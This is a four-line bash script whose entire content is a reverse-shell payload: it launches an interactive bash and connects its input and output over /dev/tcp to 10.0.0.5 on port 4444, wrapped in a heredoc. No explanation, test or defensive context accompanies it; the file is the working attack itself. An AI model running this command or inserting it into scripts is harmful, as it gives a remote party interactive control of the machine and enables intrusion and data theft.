#!/usr/bin/env bash
bash <<EOF
bash -i >& /dev/tcp/10.0.0.5/4444 0>&1
EOF
